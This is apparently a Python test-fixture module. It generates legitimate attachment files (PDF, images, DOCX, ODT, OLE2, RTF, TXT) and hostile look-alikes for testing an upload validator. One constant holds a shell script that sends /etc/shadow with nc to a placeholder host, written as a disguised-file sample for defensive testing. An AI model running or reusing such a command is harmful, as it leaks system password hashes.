"""Small real files of every attachment type, made in the test (no binary fixtures), and
hostile look-alikes: a program or a script with a document's name, a plain zip, an Excel-like
OLE2 file."""

from __future__ import annotations

import io
import struct
import zipfile

from PIL import Image
from reportlab.pdfgen.canvas import Canvas

ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 200
SHELL = b"#!/bin/sh\ncat /etc/shadow | nc example.invalid 9\n"


def pdf() -> bytes:
    buffer = io.BytesIO()
    canvas = Canvas(buffer, invariant=True)  # the same bytes every time
    canvas.drawString(72, 720, "Statut")
    canvas.save()
    return buffer.getvalue()


def image(kind: str) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), (200, 30, 30)).save(buffer, format=kind)
    return buffer.getvalue()


def _zip(entries: list[tuple[str, bytes]], stored_first: bool = False) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for index, (name, data) in enumerate(entries):
            kind = zipfile.ZIP_STORED if stored_first and index == 0 else zipfile.ZIP_DEFLATED
            archive.writestr(name, data, compress_type=kind)
    return buffer.getvalue()


def docx(macros: bool = False) -> bytes:
    main = "ms-word.document.macroEnabled.main+xml" if macros else (
        "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    )
    types = (
        '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
        'package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="application/{main}"/></Types>'
    ).encode()
    entries = [
        ("[Content_Types].xml", types),
        ("_rels/.rels", b'<?xml version="1.0"?><Relationships/>'),
        ("word/document.xml", b'<?xml version="1.0"?><w:document/>'),
    ]
    if macros:
        entries.append(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0"))
    return _zip(entries)


def odt(kind: str = "text") -> bytes:
    return _zip(
        [
            ("mimetype", f"application/vnd.oasis.opendocument.{kind}".encode()),
            ("content.xml", b'<?xml version="1.0"?><office:document-content/>'),
            ("META-INF/manifest.xml", b'<?xml version="1.0"?><manifest:manifest/>'),
        ],
        stored_first=True,
    )


def plain_zip() -> bytes:
    return _zip([("raport.txt", b"Raport z realizacji")])


def ole2(stream: str = "WordDocument") -> bytes:
    """A minimal compound file (512-byte sectors): FAT, directory, one 4096-byte stream."""
    end, free, fat_sector, no_stream = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF
    header = bytearray(512)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIII", header, 40, 0, 1, 1, 0, 4096, end, 0, end)
    struct.pack_into("<I", header, 68, 0)  # no DIFAT sectors
    struct.pack_into("<109I", header, 76, 0, *([free] * 108))
    fat = [fat_sector, end, *range(3, 10), end] + [free] * (128 - 10)

    def entry(name: str, kind: int, child: int, start: int, size: int) -> bytes:
        raw = bytearray(128)
        encoded = (name + "\0").encode("utf-16-le") if name else b""
        raw[0 : len(encoded)] = encoded
        struct.pack_into("<HBB", raw, 64, len(encoded), kind, 1)
        struct.pack_into("<III", raw, 68, no_stream, no_stream, child)
        struct.pack_into("<IQ", raw, 116, start, size)
        return bytes(raw)

    directory = (
        entry("Root Entry", 5, 1, end, 0)
        + entry(stream, 2, no_stream, 2, 4096)
        + entry("", 0, no_stream, 0, 0) * 2
    )
    body = struct.pack("<2I", 0xA5EC, 0) + b"\x00" * (4096 - 8)  # a Word FIB's magic
    return bytes(header) + struct.pack("<128I", *fat) + directory + body


def rtf() -> bytes:
    return b"{\\rtf1\\ansi\\deff0 {\\fonttbl {\\f0 Arial;}} Statut stowarzyszenia.}"


def txt() -> bytes:
    return "Regulamin organizacyjny — zażółć gęślą jaźń.\n".encode()


# One legitimate file of each type, by the extension it goes with.
LEGIT = {
    ".pdf": pdf,
    ".jpg": lambda: image("JPEG"),
    ".png": lambda: image("PNG"),
    ".tif": lambda: image("TIFF"),
    ".doc": ole2,
    ".docx": docx,
    ".odt": odt,
    ".rtf": rtf,
    ".txt": txt,
}
